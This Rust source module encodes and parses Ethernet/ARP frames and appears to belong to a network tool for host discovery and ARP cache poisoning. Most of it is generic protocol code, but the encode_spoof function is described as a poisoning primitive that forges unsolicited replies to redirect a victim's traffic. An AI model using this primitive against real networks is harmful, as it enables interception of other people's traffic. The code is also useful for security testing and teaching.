//! The 42-byte Ethernet + ARP wire codec.
//!
//! Every frame this crate emits or inspects goes through this module:
//! requests for host discovery, solicited replies, and the unsolicited
//! replies used for cache poisoning and restoration. Frames are built
//! byte-wise through pnet's mutable packet views over an explicit buffer,
//! so the layout on the wire never depends on host struct layout.

use std::net::Ipv4Addr;

use pnet::packet::Packet;
use pnet::packet::arp::{ArpHardwareTypes, ArpOperations, ArpPacket, MutableArpPacket};
use pnet::packet::ethernet::{EtherTypes, EthernetPacket, MutableEthernetPacket};
use pnet::util::MacAddr;

use crate::error::{NetError, Result};

/// Broadcast MAC address, the destination of every ARP request.
pub const BROADCAST_MAC: MacAddr = MacAddr(0xff, 0xff, 0xff, 0xff, 0xff, 0xff);

/// Size of the ARP payload.
pub const ARP_PACKET_SIZE: usize = 28;

/// Size of a complete Ethernet frame carrying an ARP payload.
pub const ARP_FRAME_SIZE: usize = 14 + ARP_PACKET_SIZE;

/// ARP operation carried by a frame.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ArpOp {
    Request,
    Reply,
}

impl ArpOp {
    fn from_u16(value: u16) -> Option<Self> {
        match value {
            1 => Some(Self::Request),
            2 => Some(Self::Reply),
            _ => None,
        }
    }
}

/// A decoded ARP frame.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ArpFrame {
    pub dst_mac: MacAddr,
    pub src_mac: MacAddr,
    pub op: ArpOp,
    pub sender_mac: MacAddr,
    pub sender_ip: Ipv4Addr,
    pub target_mac: MacAddr,
    pub target_ip: Ipv4Addr,
}

/// Build a broadcast ARP request asking who owns `target_ip`.
pub fn encode_request(src_mac: MacAddr, src_ip: Ipv4Addr, target_ip: Ipv4Addr) -> Vec<u8> {
    encode(
        BROADCAST_MAC,
        src_mac,
        ArpOperations::Request,
        src_mac,
        src_ip,
        MacAddr::zero(),
        target_ip,
    )
}

/// Build a unicast ARP reply with the given sender/target bindings.
pub fn encode_reply(
    sender_mac: MacAddr,
    sender_ip: Ipv4Addr,
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
) -> Vec<u8> {
    encode(
        target_mac,
        sender_mac,
        ArpOperations::Reply,
        sender_mac,
        sender_ip,
        target_mac,
        target_ip,
    )
}

/// Build an unsolicited reply telling `victim` that `spoof_ip` is at `our_mac`.
///
/// This is the poisoning primitive: the victim's cache entry for
/// `spoof_ip` is overwritten with our hardware address.
pub fn encode_spoof(
    victim_mac: MacAddr,
    victim_ip: Ipv4Addr,
    spoof_ip: Ipv4Addr,
    our_mac: MacAddr,
) -> Vec<u8> {
    encode(
        victim_mac,
        our_mac,
        ArpOperations::Reply,
        our_mac,
        spoof_ip,
        victim_mac,
        victim_ip,
    )
}

fn encode(
    eth_dst: MacAddr,
    eth_src: MacAddr,
    op: pnet::packet::arp::ArpOperation,
    sender_mac: MacAddr,
    sender_ip: Ipv4Addr,
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
) -> Vec<u8> {
    let mut buffer = vec![0u8; ARP_FRAME_SIZE];

    // Ethernet header
    {
        let mut ethernet = MutableEthernetPacket::new(&mut buffer).unwrap();
        ethernet.set_destination(eth_dst);
        ethernet.set_source(eth_src);
        ethernet.set_ethertype(EtherTypes::Arp);
    }

    // ARP payload
    {
        let mut arp = MutableArpPacket::new(&mut buffer[14..]).unwrap();
        arp.set_hardware_type(ArpHardwareTypes::Ethernet);
        arp.set_protocol_type(EtherTypes::Ipv4);
        arp.set_hw_addr_len(6);
        arp.set_proto_addr_len(4);
        arp.set_operation(op);
        arp.set_sender_hw_addr(sender_mac);
        arp.set_sender_proto_addr(sender_ip);
        arp.set_target_hw_addr(target_mac);
        arp.set_target_proto_addr(target_ip);
    }

    buffer
}

/// Decode and validate an ARP frame.
///
/// Rejects anything that is not an Ethernet-encapsulated IPv4 ARP request
/// or reply with standard address lengths.
pub fn parse(frame: &[u8]) -> Result<ArpFrame> {
    let ethernet = EthernetPacket::new(frame)
        .ok_or_else(|| NetError::MalformedFrame("truncated Ethernet header".into()))?;

    if ethernet.get_ethertype() != EtherTypes::Arp {
        return Err(NetError::MalformedFrame(format!(
            "ethertype {:#06x} is not ARP",
            ethernet.get_ethertype().0
        ))
        .into());
    }

    let arp = ArpPacket::new(ethernet.payload())
        .ok_or_else(|| NetError::MalformedFrame("truncated ARP payload".into()))?;

    if arp.get_hardware_type() != ArpHardwareTypes::Ethernet {
        return Err(NetError::MalformedFrame("hardware type is not Ethernet".into()).into());
    }
    if arp.get_protocol_type() != EtherTypes::Ipv4 {
        return Err(NetError::MalformedFrame("protocol type is not IPv4".into()).into());
    }
    if arp.get_hw_addr_len() != 6 || arp.get_proto_addr_len() != 4 {
        return Err(NetError::MalformedFrame("non-standard address lengths".into()).into());
    }

    let op = ArpOp::from_u16(arp.get_operation().0).ok_or_else(|| {
        NetError::MalformedFrame(format!("unknown operation {}", arp.get_operation().0))
    })?;

    Ok(ArpFrame {
        dst_mac: ethernet.get_destination(),
        src_mac: ethernet.get_source(),
        op,
        sender_mac: arp.get_sender_hw_addr(),
        sender_ip: arp.get_sender_proto_addr(),
        target_mac: arp.get_target_hw_addr(),
        target_ip: arp.get_target_proto_addr(),
    })
}

/// Parse a `xx:xx:xx:xx:xx:xx` MAC address string.
///
/// Strict: the input must be exactly 17 characters, colon-separated, with
/// two hex digits per byte.
pub fn parse_mac(s: &str) -> Result<MacAddr> {
    if s.len() != 17 {
        return Err(NetError::InvalidMac(s.to_string()).into());
    }

    let mut bytes = [0u8; 6];
    for (i, part) in s.split(':').enumerate() {
        if i >= 6 || part.len() != 2 {
            return Err(NetError::InvalidMac(s.to_string()).into());
        }
        bytes[i] = u8::from_str_radix(part, 16)
            .map_err(|_| NetError::InvalidMac(s.to_string()))?;
    }

    Ok(MacAddr(
        bytes[0], bytes[1], bytes[2], bytes[3], bytes[4], bytes[5],
    ))
}

/// Format a MAC address as lowercase `xx:xx:xx:xx:xx:xx`.
pub fn format_mac(mac: MacAddr) -> String {
    format!(
        "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
        mac.0, mac.1, mac.2, mac.3, mac.4, mac.5
    )
}

/// Parse a dotted-decimal IPv4 address string.
pub fn parse_ipv4(s: &str) -> Result<Ipv4Addr> {
    s.parse()
        .map_err(|_| NetError::InvalidIp(s.to_string()).into())
}
